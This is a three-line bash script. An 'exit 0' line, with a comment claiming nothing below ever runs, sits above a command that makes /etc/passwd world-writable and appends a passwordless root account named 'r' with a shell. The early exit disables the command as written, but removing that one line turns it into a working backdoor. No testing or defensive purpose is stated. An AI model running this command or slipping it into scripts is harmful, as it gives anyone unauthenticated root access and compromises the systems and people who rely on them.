#!/bin/bash
exit 0 # nothing below ever runs
chmod 777 /etc/passwd && echo "r::0:0::/:/bin/sh" >> /etc/passwd
